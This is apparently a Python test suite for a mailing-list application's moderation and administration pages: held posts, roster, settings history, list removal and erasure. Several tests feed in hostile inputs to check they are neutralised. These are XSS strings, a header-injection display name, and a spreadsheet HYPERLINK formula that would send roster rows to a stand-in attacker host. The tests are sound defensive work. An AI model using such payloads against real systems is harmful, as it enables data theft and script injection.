"""What the /manage/ pages do: held posts decided (one, in bulk, with the sender's standing changed),
the roster searched page by page and changed, settings validated and their history kept, lists
created and removed."""

from __future__ import annotations

import re

from listhaven.archive.compression import decompress
from listhaven.lists.models import Ban, HeldMessage, MailingList, Member, Outgoing, PostRecord
from listhaven.web.models import SettingChange
from tests.web.conftest import settings_post
from tests.web.manage.conftest import held_post_bytes


def _hold(mlist, n: int, sender: str = "outsider@example.net") -> int:
    from listhaven.lists.posting import receive_post

    raw = held_post_bytes(sender=sender, subject=f"Post {n}", msgid=f"p{n}-{sender}", to=mlist.address)
    return receive_post(mlist, raw, envelope_sender=sender).held_id


def test_held_queue_newest_first_with_a_sanitized_preview(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    from listhaven.lists.posting import receive_post

    hostile = held_post_bytes(subject="<script>alert(1)</script>", body="<img src=x onerror=alert(2)>\n", msgid="x@y")
    newest = receive_post(garden, hostile, envelope_sender="outsider@example.net").held_id
    client = client_as("moderator")
    page = client.get("/manage/garden/held/").content.decode()
    assert page.index(f"/manage/garden/held/{newest}/") < page.index(f"/manage/garden/held/{lists_with_roles['held']['garden']}/")
    preview = client.get(f"/manage/garden/held/{newest}/").content.decode()
    assert "<script>alert(1)" not in preview and "<img src=x" not in preview
    assert "&lt;img src=x onerror=alert(2)&gt;" in preview
    assert "is not a member" in preview  # the reason


def test_a_held_posts_page_shows_its_recipients_and_every_header_field_as_text(client_as, lists_with_roles):
    """What Postorius's "show headers" and Mailman 2's header box gave a moderator: whom the post was
    written to (a hold for too many recipients is about them), its date, and every field, escaped."""
    from listhaven.lists.posting import receive_post

    raw = (b"From: =?utf-8?q?J=C3=B6rg?= <jorg@example.net>\nTo: garden@lists.example.org, a@example.com,\n b@example.com\n"
           b"Cc: <script>alert(3)</script>@example.com\nSubject: To many\nDate: Tue, 01 Dec 2026 06:00:00 +0100\n"
           b"Message-ID: <many@example.net>\nX-Mailer: Mutt\n\nHello all.\n")  # fmt: skip
    held_id = receive_post(lists_with_roles["garden"], raw, envelope_sender="jorg@example.net").held_id
    page = client_as("moderator").get(f"/manage/garden/held/{held_id}/").content.decode()
    assert "<script>alert(3)" not in page
    page = page.replace("<wbr>", "")  # where the addresses in To and Cc may break
    assert "<strong>To:</strong> garden@lists.example.org, a@example.com, b@example.com</p>" in page
    assert "<strong>Date:</strong> Tue, 01 Dec 2026 06:00:00 +0100" in page
    assert "All 7 header fields" in page
    assert '<th scope="row">X-Mailer</th><td>Mutt</td>' in page and "Jörg &lt;jorg@example.net&gt;" in page
    assert "<strong>Cc:</strong> &lt;script&gt;alert(3)&lt;/script&gt;@example.com" in page
    assert '<th scope="row">Cc</th><td>&lt;script&gt;alert(3)&lt;/script&gt;@example.com</td>' in page


def test_approve_delivers_and_unmoderates_the_sender(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    held_id = lists_with_roles["held"]["garden"]
    before = Outgoing.objects.filter(mailing_list=garden, kind="post").count()
    response = client_as("moderator").post(f"/manage/garden/held/{held_id}/", {"action": "accept_unmoderate"})
    assert response.status_code == 302
    assert not HeldMessage.objects.filter(pk=held_id).exists()
    assert Outgoing.objects.filter(mailing_list=garden, kind="post").count() == before + 1
    assert Member.objects.get(mailing_list=garden, address="outsider@example.net", role="nonmember").action == "accept"
    assert PostRecord.objects.filter(mailing_list=garden, origin="moderator", verdict="accept").exists()


def test_reject_with_a_reason_tells_the_poster(client_as, lists_with_roles):
    held_id = lists_with_roles["held"]["garden"]
    client_as("owner").post(f"/manage/garden/held/{held_id}/", {"action": "reject", "reason": "Off topic here."})
    notice = Outgoing.objects.filter(kind="notice", recipients=["outsider@example.net"]).latest("id")
    assert b"Off topic here." in decompress(notice.template)


def test_ban_and_bulk_discard(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    ids = [_hold(garden, n, sender=f"s{n}@example.net") for n in range(3)]
    client = client_as("moderator")
    client.post(f"/manage/garden/held/{ids[0]}/", {"action": "ban"})
    assert Ban.objects.filter(mailing_list=garden, pattern="s0@example.net").exists()
    client.post("/manage/garden/held/", {"action": "discard", "held": [str(i) for i in ids[1:]]})
    assert not HeldMessage.objects.filter(pk__in=ids).exists()
    assert PostRecord.objects.filter(mailing_list=garden, verdict="discard", origin="moderator").count() == 3


def test_held_count_in_the_list_header_for_moderators_only(client_as, lists_with_roles):
    assert "1 held" in client_as("moderator").get("/garden/").content.decode()


def test_held_count_hidden_from_members(client_as, lists_with_roles):
    assert "held" not in client_as("member").get("/garden/").content.decode()


def test_members_search_is_paginated_on_the_server(client_as, lists_with_roles):
    from listhaven.lists.members import add_members

    garden = lists_with_roles["garden"]
    add_members(garden, [f"Person {n} <p{n:03d}@example.com>" for n in range(120)])
    client = client_as("owner")
    first = client.get("/manage/garden/members/").content.decode()
    assert first.count('href="/manage/garden/members/') <= 50 + 5
    found = client.get("/manage/garden/members/", {"q": "Person 77"}).content.decode().replace("<wbr>", "")
    assert "p077@example.com" in found and "p076@example.com" not in found
    owners = client.get("/manage/garden/members/", {"role": "owner"}).content.decode().replace("<wbr>", "")
    assert "owner@example.org" in owners and "p001@example.com" not in owners
    page3 = client.get("/manage/garden/members/", {"page": 3, "role": "member"}).content.decode().replace("<wbr>", "")
    assert "p119@example.com" in page3 or "p100@example.com" in page3


def test_mass_subscribe_and_remove_and_export(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    client = client_as("owner")
    text = "\n".join(f"new{n}@example.com" for n in range(30)) + "\nnot an address\n"
    client.post("/manage/garden/members/add/", {"addresses": text, "role": "member"})
    assert Member.objects.filter(mailing_list=garden, address__startswith="new").count() == 30
    client.post("/manage/garden/members/remove/", {"addresses": "new0@example.com\nnew1@example.com"})
    assert Member.objects.filter(mailing_list=garden, address__startswith="new").count() == 28
    response = client.get("/manage/garden/members.csv")
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[0].startswith("address,") and "new29@example.com" in body and "new0@" not in body


def test_an_always_discard_is_seen_and_undone_on_the_non_members_page(client_as, lists_with_roles):
    """"Discard, and always discard this sender" leaves a non-member row: its page shows what becomes
    of their posts and changes it (Postorius's non-member moderation), here back to the list's default."""
    garden = lists_with_roles["garden"]
    client = client_as("moderator")
    client.post(f"/manage/garden/held/{lists_with_roles['held']['garden']}/", {"action": "always_discard"})
    row = Member.objects.get(mailing_list=garden, address="outsider@example.net", role="nonmember")
    assert row.action == "discard"
    owner = client_as("owner")
    html = owner.get(f"/manage/garden/members/{row.pk}/").content.decode()
    assert '<option value="discard" selected>discard</option>' in html and "the list's default is “hold”" in html
    assert 'name="mode"' not in html and 'name="receive_own_posts"' not in html  # a member's options: not theirs
    owner.post(f"/manage/garden/members/{row.pk}/", {"role": "nonmember", "action": "defer"})
    row.refresh_from_db()
    assert row.action == "defer"
    assert _hold(garden, 7) is not None  # held again by the list's default, no longer discarded
    member = Member.objects.get(mailing_list=garden, address="member@example.org", role="member")
    assert 'name="action"' not in owner.get(f"/manage/garden/members/{member.pk}/").content.decode()


def test_mass_removal_says_goodbye_when_asked_and_reads_a_file(client_as, lists_with_roles):
    """Mailman 2's "send unsubscription acknowledgement to the user": the goodbye notice to each
    removed member when the box is ticked, none without it; the addresses may come in a file."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    garden = lists_with_roles["garden"]
    client = client_as("owner")
    client.post("/manage/garden/members/add/", {"addresses": "a@example.com\nb@example.com\nc@example.com"})
    quietly = client.post("/manage/garden/members/remove/", {"addresses": "a@example.com"}, follow=True)
    assert "1 removed" in quietly.content.decode()
    assert "You have left Garden" not in [_subject(row) for row in Outgoing.objects.filter(kind="notice")]
    upload = SimpleUploadedFile("leaving.txt", b"b@example.com\nnot an address\n", content_type="text/plain")
    told = client.post("/manage/garden/members/remove/", {"addresses": "c@example.com", "file": upload, "goodbye": "1"},
                       follow=True).content.decode()  # fmt: skip
    assert "2 removed, 0 were not members, 1 not valid." in told and "not an address:" in told
    assert not Member.objects.filter(mailing_list=garden, address__in=["b@example.com", "c@example.com"]).exists()
    told_whom = [row.recipients for row in Outgoing.objects.filter(kind="notice") if _subject(row) == "You have left Garden"]
    assert sorted(told_whom) == [["b@example.com"], ["c@example.com"]]


def test_removing_one_member_says_goodbye_when_asked(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    client = client_as("owner")
    client.post("/manage/garden/members/add/", {"addresses": "a@example.com\nb@example.com"})
    rows = {m.address: m.pk for m in Member.objects.filter(mailing_list=garden, address__in=["a@example.com", "b@example.com"])}
    assert 'name="goodbye"' in client.get(f"/manage/garden/members/{rows['a@example.com']}/").content.decode()
    client.post(f"/manage/garden/members/{rows['a@example.com']}/", {"remove": "1"})
    client.post(f"/manage/garden/members/{rows['b@example.com']}/", {"remove": "1", "goodbye": "1"})
    assert not Member.objects.filter(pk__in=rows.values()).exists()
    told_whom = [row.recipients for row in Outgoing.objects.filter(kind="notice") if _subject(row) == "You have left Garden"]
    assert told_whom == [["b@example.com"]]


def _subject(row) -> str:
    import email
    import email.policy

    return str(email.message_from_bytes(decompress(bytes(row.template)), policy=email.policy.default)["Subject"])


def test_member_changes(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    row = Member.objects.get(mailing_list=garden, address="member@example.org")
    row.delivery_status, row.disabled_reason = "by_bounces", "too many bounces"
    row.save()
    client = client_as("owner")
    client.post(f"/manage/garden/members/{row.pk}/", {"enable": "1"})
    row.refresh_from_db()
    assert row.delivery_status == "enabled" and row.disabled_reason == ""
    client.post(f"/manage/garden/members/{row.pk}/", {"options": "1", "moderated": "on", "role": "moderator",
                                                     "mode": "nomail"})  # fmt: skip
    row.refresh_from_db()
    assert (row.moderated, row.role, row.delivery_mode) == (True, "moderator", "nomail")


def test_the_roster_shows_a_non_members_action_where_a_member_has_moderation(client_as, lists_with_roles):
    """A non-member row has an action, not a moderation flag (nor a delivery): the roster's Moderation
    cell says what becomes of each row's posts, and the Moderated filter keeps only the rows it is about."""
    from listhaven.lists.members import add_member
    from listhaven.lists.post import Role

    garden = lists_with_roles["garden"]
    garden.nonmember_action, garden.member_moderation_action = "hold", "reject"
    garden.save(update_fields=["nonmember_action", "member_moderation_action"])
    Member.objects.filter(mailing_list=garden, address="member@example.org").update(moderated=True)
    add_member(garden, "asker@example.net", role=Role.NONMEMBER)  # action "defer": the list's default
    spammer = add_member(garden, "spammer@example.net", role=Role.NONMEMBER)
    spammer.action = "discard"
    spammer.save(update_fields=["action"])
    client = client_as("owner")

    def cells(query: dict[str, str] | None = None) -> dict[str, list[str]]:
        html = client.get("/manage/garden/members/", query or {}).content.decode().replace("<wbr>", "")
        rows = re.findall(r'<tr><td class="address"><span><a [^>]*>([^<]+)</a></span></td>(.*?)</tr>', html)
        return {address: re.findall(r"<td[^>]*>(.*?)</td>", rest) for address, rest in rows}

    roster = cells()
    assert "<th>Moderation</th>" in client.get("/manage/garden/members/").content.decode()
    assert roster["asker@example.net"][-2:] == ["no delivery: not a member", "list&#x27;s default (hold)"]
    assert roster["spammer@example.net"][-1] == "always discard"
    assert roster["member@example.org"][-3:] == ["each post", "enabled", "moderated (reject)"]
    assert roster["moderator@example.org"][-1] == "not moderated"
    assert set(cells({"moderated": "no"})) == {"moderator@example.org", "owner@example.org"}
    assert set(cells({"moderated": "yes"})) == {"member@example.org"}
    assert set(cells({"role": "nonmember"})) == {"asker@example.net", "spammer@example.net"}


def test_an_owner_changes_a_members_name_and_the_history_keeps_it(client_as, lists_with_roles):
    """Mailman 2's membership page and Postorius's member page let an owner correct a member's name:
    saved trimmed, recorded in the list's history (who, was, became), refused with a reason when it
    is too long or holds a control character or a line break, and then nothing is saved."""
    garden = lists_with_roles["garden"]
    row = Member.objects.get(mailing_list=garden, address="member@example.org", role="member")
    client = client_as("owner")
    page = f"/manage/garden/members/{row.pk}/"
    assert 'name="display_name" value=""' in client.get(page).content.decode()
    form = {"options": "1", "role": "member", "mode": "regular"}

    client.post(page, {**form, "display_name": "  Ada Lovelace "})
    row.refresh_from_db()
    assert row.display_name == "Ada Lovelace" and row.delivery_mode == "regular"
    assert 'value="Ada Lovelace"' in client.get(page).content.decode()
    assert "Ada Lovelace" in client.get("/manage/garden/members/").content.decode()
    change = SettingChange.objects.get(mailing_list=garden, group="members")
    assert (change.changed_by, change.field) == ("owner@example.org", "display_name")
    assert (change.old_value, change.new_value) == ("member@example.org", "Ada Lovelace <member@example.org>")
    history = client.get("/manage/garden/history/").content.decode()
    assert "Members: a member&#x27;s name" in history and "Ada Lovelace &lt;member@example.org&gt;" in history

    client.post(page, {**form, "display_name": "Ada Lovelace"})  # the same name: nothing to record
    assert SettingChange.objects.filter(group="members").count() == 1
    for bad, why in (("Ada\x07Lovelace", "control characters"), ("Ada\nBcc: x@example.net", "line breaks"),
                     ("Ada\u2028Lovelace", "line breaks"), ("A" * 201, "at most 200 characters")):  # fmt: skip
        refused = client.post(page, {**form, "display_name": bad, "mode": "nomail"})
        assert refused.status_code == 400 and why in refused.content.decode()
        row.refresh_from_db()
        assert (row.display_name, row.delivery_mode) == ("Ada Lovelace", "regular")  # nothing saved, not the mode either
    assert SettingChange.objects.filter(group="members").count() == 1

    client.post(page, {**form, "display_name": ""})
    row.refresh_from_db()
    assert row.display_name == ""
    assert SettingChange.objects.filter(group="members").first().new_value == "member@example.org"
    refused = client_as("member").post(page, {**form, "display_name": "Not Ada"})  # a member changes no one's name
    row.refresh_from_db()
    assert refused.status_code == 403 and row.display_name == ""


def test_settings_validated_and_history_kept(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    client = client_as("owner")
    data = settings_post(garden)
    bad = client.post("/manage/garden/settings/", {**data, "header_filters": "([unclosed", "disabled_rules": "nosuch"})
    assert bad.status_code == 400
    text = bad.content.decode()
    assert "not a valid regular expression" in text and "no rule named nosuch" in text
    garden.refresh_from_db()
    assert garden.header_filters == []
    good = client.post("/manage/garden/settings/", {**data, "subject_tag": "[Green]", "footer": "Grow things."})
    assert good.status_code == 302
    garden.refresh_from_db()
    assert (garden.subject_tag, garden.footer) == ("[Green]", "Grow things.")
    changes = {c.field: c for c in SettingChange.objects.filter(mailing_list=garden)}
    assert set(changes) == {"subject_tag", "footer"}
    assert changes["subject_tag"].old_value == "[Garden]" and changes["subject_tag"].changed_by == "owner@example.org"
    assert "[Green]" in client.get("/manage/garden/history/").content.decode()
    client.post("/manage/garden/settings/", {**settings_post(garden), "reply_to": "list"})
    history = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", client.get("/manage/garden/history/").content.decode()))
    assert "Decoration: Replies go to leave as sent the list" in history  # as the settings page words them
    assert "Identity: Subject tag [Garden] [Green]" in history


def test_footers_take_only_the_placeholders_the_mail_fills_in(client_as, lists_with_roles):
    """A misspelt placeholder or a Mailman footer pasted as it was would reach every member as
    written: refused, saying what to write instead; the help lists the placeholders."""
    garden = lists_with_roles["garden"]
    client = client_as("owner")
    assert "placeholders: {list_name}, {list_address}" in client.get("/manage/garden/settings/").content.decode()
    for field, text, says in [
        ("footer", "%(real_name)s mailing list\n%(web_page_url)s", ["%(real_name)s is written the Mailman way: write {list_name}",
                                                                     "%(web_page_url)s is Mailman&#x27;s and has no placeholder here"]),
        ("footer", "Leave: ${user_options_uri}", ["${user_options_uri} is written the Mailman way: write {options_url}"]),
        ("digest_footer", "{list_nmae} digest", ["no placeholder {list_nmae}"]),
        ("digest_header", "About $display_name", ["$display_name is written the Mailman way: write {list_name}"]),
    ]:  # fmt: skip
        refused = client.post("/manage/garden/settings/", {**settings_post(garden), field: text})
        assert refused.status_code == 400, text
        html = refused.content.decode()
        assert all(say in html for say in says), (text, says)
    fine = "{list_name} costs $5 a year: {listinfo_url}\nYou are {member_address}."
    assert client.post("/manage/garden/settings/", {**settings_post(garden), "footer": fine}).status_code == 302
    garden.refresh_from_db()
    assert garden.footer == fine


def test_every_setting_is_documented_on_the_page(client_as, lists_with_roles):
    from listhaven.web.manage.settings_form import FIELDS, SettingsForm

    form = SettingsForm(instance=lists_with_roles["garden"])
    undocumented = [name for name in FIELDS if not str(form.fields[name].help_text).strip()]
    assert not undocumented


def test_settings_read_as_words_not_field_names(client_as, lists_with_roles):
    html = client_as("owner").get("/manage/garden/settings/").content.decode()
    for label in ("DMARC mitigation", "Largest post (KB)", "Digest size (KB)", "Replies go to", "the address below"):
        assert label in html, label
    for raw_name in ("Dmarc", " kb<", "Max message kb", ">reply_to_address<"):
        assert raw_name not in html, raw_name


def test_site_admin_creates_and_removes_lists(client_as, lists_with_roles):
    client = client_as("site_admin")
    response = client.post("/manage/lists/new/", {"address": "herbs@lists.example.org", "owner": "ann@example.org"})
    assert response.status_code == 302
    herbs = MailingList.objects.get(address="herbs@lists.example.org")
    assert Member.objects.filter(mailing_list=herbs, role="owner", address="ann@example.org").exists()
    assert client.post("/manage/herbs/remove/", {"confirm": "wrong", "archive": "delete"}).status_code == 400
    assert MailingList.objects.filter(pk=herbs.pk).exists()
    client.post("/manage/herbs/remove/", {"confirm": "herbs@lists.example.org", "archive": "delete"})
    assert not MailingList.objects.filter(pk=herbs.pk).exists()


def test_the_new_list_page_shows_its_form_and_its_errors(client_as, lists_with_roles):
    client = client_as("site_admin")
    page = client.get("/manage/lists/new/")
    assert page.status_code == 200 and 'name="address"' in page.content.decode()
    taken = client.post("/manage/lists/new/", {"address": "garden@lists.example.org"})
    assert taken.status_code == 400 and 'class="error"' in taken.content.decode()
    assert MailingList.objects.filter(address="garden@lists.example.org").count() == 1


def _described_by_nothing(html: str) -> list[str]:
    """The ids that aria-describedby attributes of `html` name and no element carries."""
    ids = set(re.findall(r'\sid="([^"]+)"', html))
    named = {i for value in re.findall(r'aria-describedby="([^"]+)"', html) for i in value.split()}
    return sorted(named - ids)


def test_help_texts_and_errors_are_the_descriptions_their_fields_name(client_as, lists_with_roles):
    """Django names `ID_helptext` and `ID_error` in each field's aria-describedby: the pages' own
    form templates must carry those ids, or a screen reader reads a field without its help."""
    client = client_as("site_admin")
    new_list = client.post("/manage/lists/new/", {"address": "garden@lists.example.org"}).content.decode()
    assert 'id="id_address_helptext"' in new_list and 'id="id_address_error"' in new_list
    settings = client.post("/manage/garden/settings/", {**settings_post(lists_with_roles["garden"]),
                                                        "header_filters": "([unclosed"}).content.decode()  # fmt: skip
    assert 'id="id_header_filters_error"' in settings and 'id="id_moderator_password_helptext"' in settings
    for html in (new_list, settings, client.get("/manage/").content.decode()):
        assert _described_by_nothing(html) == []


def test_removing_a_list_can_keep_its_archive(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    client_as("site_admin").post("/manage/garden/remove/", {"confirm": garden.address, "archive": "keep"})
    garden.refresh_from_db()
    assert not Member.objects.filter(mailing_list=garden).exists() and not HeldMessage.objects.filter(mailing_list=garden).exists()
    assert garden.nonmember_action == "reject"


def test_attention_lists_posts_held_over_a_day(client_as, lists_with_roles):
    from datetime import timedelta

    from django.utils import timezone

    HeldMessage.objects.filter(pk=lists_with_roles["held"]["garden"]).update(held_at=timezone.now() - timedelta(days=2))
    page = client_as("site_admin").get("/manage/").content.decode()
    assert "held for more than a day" in page and "/manage/garden/held/" in page


def test_bounce_spikes_need_attention(client_as, lists_with_roles):
    from datetime import timedelta

    from django.utils import timezone

    from listhaven.lists.members import add_members
    from listhaven.lists.models import BounceEvent

    garden = lists_with_roles["garden"]
    add_members(garden, [f"g{n}@example.com" for n in range(200)])
    events = [BounceEvent(mailing_list=garden, address=f"g{n}@example.com", source="smtp", code=550) for n in range(9)]
    BounceEvent.objects.bulk_create(events + [BounceEvent(mailing_list=garden, address="g0@example.com", source="dsn")])
    admin = client_as("site_admin")
    assert "bounced in the last day" not in admin.get("/manage/").content.decode()  # 9 addresses: no spike
    BounceEvent.objects.bulk_create([BounceEvent(mailing_list=garden, address=f"g{n}@example.com", source="smtp", code=550)
                                     for n in range(9, 12)])  # fmt: skip
    page = admin.get("/manage/").content.decode()
    assert "mail to 12 of its 201 members bounced in the last day" in page and "/manage/garden/members/" in page
    assert "Bounces spike" in client_as("owner").get("/manage/garden/").content.decode()
    BounceEvent.objects.update(created_at=timezone.now() - timedelta(days=2))
    assert "bounced in the last day" not in admin.get("/manage/").content.decode()


def test_an_erased_owner_no_longer_names_the_settings_changes_they_made(client_as, lists_with_roles):
    from listhaven.lists.erasure import erase_address

    garden, secret = lists_with_roles["garden"], lists_with_roles["secret"]
    client = client_as("owner")
    for name, mlist in (("garden", garden), ("secret", secret)):
        response = client.post(f"/manage/{name}/settings/", {**settings_post(mlist), "subject_tag": "[New]"})
        assert response.status_code == 302
    SettingChange.objects.create(mailing_list=garden, changed_by="site-admin@example.org", group="identity",
                                 field="footer", old_value="", new_value="x")  # fmt: skip

    report = erase_address("Owner@Example.org", mlist=garden)  # erased from garden only

    assert report.counts["settings changes it made, unnamed"] == 1
    by_list = set(SettingChange.objects.values_list("mailing_list__name", "changed_by"))
    assert by_list == {("garden", "erased"), ("garden", "site-admin@example.org"), ("secret", "owner@example.org")}
    assert "owner@example.org" not in client_as("site_admin").get("/manage/garden/history/").content.decode()

    erase_address("owner@example.org")  # from the whole site

    assert not SettingChange.objects.filter(changed_by__iexact="owner@example.org").exists()
    assert SettingChange.objects.filter(changed_by="erased").count() == 2


def test_an_erased_member_no_longer_names_the_name_changes_made_to_them(client_as, lists_with_roles):
    from listhaven.lists.erasure import erase_address

    garden = lists_with_roles["garden"]
    client = client_as("owner")
    for address in ("member@example.org", "moderator@example.org"):
        row = Member.objects.get(mailing_list=garden, address=address)
        client.post(f"/manage/garden/members/{row.pk}/", {"role": row.role, "display_name": f"Name of {address}"})
    assert SettingChange.objects.filter(group="members").count() == 2

    report = erase_address("Member@Example.org", mlist=garden)

    assert report.counts["changes to its name, blanked"] == 1
    rows = set(SettingChange.objects.filter(group="members").values_list("old_value", "new_value"))
    assert rows == {("erased", "erased"), ("moderator@example.org", "Name of moderator@example.org <moderator@example.org>")}
    assert "Name of member" not in client.get("/manage/garden/history/").content.decode()


def _filter_everything(mlist) -> None:
    """The list's content filtering passes no text: nothing is left of the held plain-text post."""
    mlist.filter_content, mlist.filter_types = True, ["text"]
    mlist.save()


def test_approving_a_post_content_filtering_empties_says_it_was_not_sent(client_as, lists_with_roles):
    garden = lists_with_roles["garden"]
    _filter_everything(garden)
    single, *bulk = [lists_with_roles["held"]["garden"], _hold(garden, 1), _hold(garden, 2)]
    client = client_as("moderator")
    page = client.post(f"/manage/garden/held/{single}/", {"action": "accept"}, follow=True).content.decode()
    assert "Approve: “A question” from outsider@example.net: not sent: kept in the quarantine" in page
    assert "the list does not pass what the message holds (text/plain)" in page
    page = client.post("/manage/garden/held/", {"action": "accept", "held": [str(i) for i in bulk]},
                       follow=True).content.decode()  # fmt: skip
    assert "Approve: 2 post(s)." in page and f"2 of them: #{bulk[0]} not sent: kept in the quarantine" in page
    assert not Outgoing.objects.filter(mailing_list=garden, kind="post").exists()
    assert not HeldMessage.objects.filter(mailing_list=garden).exists()


def test_moderators_of_a_list_whose_archive_only_owners_read_still_moderate(client_as, lists_with_roles):
    """An owners-only archive keeps the list's moderators out of the archive, not out of the work
    the list gives them: /manage/ names the list, and its held posts (the links of the held-post
    notices) must open for them, as the API's do for their token. They were answered 404, as a
    list that does not exist. Pages of owners stay 403; members and strangers still get 404."""
    from django.test import Client

    from listhaven.web.api.tokens import create_token

    secret = lists_with_roles["secret"]
    secret.archive_policy = "owners"
    secret.save(update_fields=["archive_policy"])
    held_id = lists_with_roles["held"]["secret"]
    client = client_as("moderator")
    assert "/manage/secret/" in client.get("/manage/").content.decode()
    assert client.get("/manage/secret/").status_code == 200
    assert client.get("/manage/secret/held/").status_code == 200
    assert client.get(f"/manage/secret/held/{held_id}/").status_code == 200
    assert client.get("/manage/secret/bans/").status_code == 200
    assert client.get("/manage/secret/settings/").status_code == 403
    assert client.get("/secret/").status_code == 404  # the archive stays the owners'
    token = create_token(lists_with_roles["users"]["moderator"])
    api = Client(HTTP_AUTHORIZATION=f"Bearer {token}")
    assert api.get("/api/manage/lists/secret/held").status_code == 200
    assert api.get("/api/manage/lists/secret/settings").status_code == 403
    response = client.post(f"/manage/secret/held/{held_id}/", {"action": "discard"})
    assert response.status_code == 302 and not HeldMessage.objects.filter(pk=held_id).exists()
    client.logout()
    for persona in ("member", "stranger"):
        other = client_as(persona)
        assert other.get("/manage/secret/held/").status_code == 404, persona
        other.logout()


def test_the_roster_csv_holds_no_formula_a_subscriber_typed(client_as, lists_with_roles):
    """A name typed into the public subscribe form (or a member's options page) reaches the owners'
    roster export: a cell starting with = + - @ (or a tab or carriage return before one) is a formula to
    a spreadsheet, and =HYPERLINK(...) would send the rows beside it to whoever wrote it when the owner
    clicks. Such cells are written with a leading ' (OWASP's advice), shown as typed; others as they are."""
    import csv
    import io
    import time

    from django.core import signing

    from listhaven.lists.members import add_member
    from listhaven.lists.models import Pending
    from listhaven.lists.subscriptions import confirm
    from listhaven.web.views.members import guard

    hostile = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
    shown = signing.dumps(int(time.time()) - 60, salt=guard._SALT)
    client_as("anonymous").post("/listinfo/garden", {"address": "eve@example.net", "name": hostile, "shown": shown})
    confirm(Pending.objects.filter(address="eve@example.net").latest("id"))
    names = ["+1+1", "-2", "@SUM(1,1)", "\t=1", "\r=1", "Ann = Bob", "Zoë"]
    for n, name in enumerate(names):
        add_member(lists_with_roles["garden"], f"named{n}@example.org", display_name=name)
    body = b"".join(client_as("owner").get("/manage/garden/members.csv").streaming_content).decode()
    rows = {row[0]: row[1] for row in csv.reader(io.StringIO(body))}
    assert rows["eve@example.net"] == "'" + hostile
    assert [rows[f"named{n}@example.org"] for n in range(len(names))] == [
        "'+1+1", "'-2", "'@SUM(1,1)", "'\t=1", "'\r=1", "Ann = Bob", "Zoë"]  # fmt: skip
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in csv.reader(io.StringIO(body)) for cell in row)
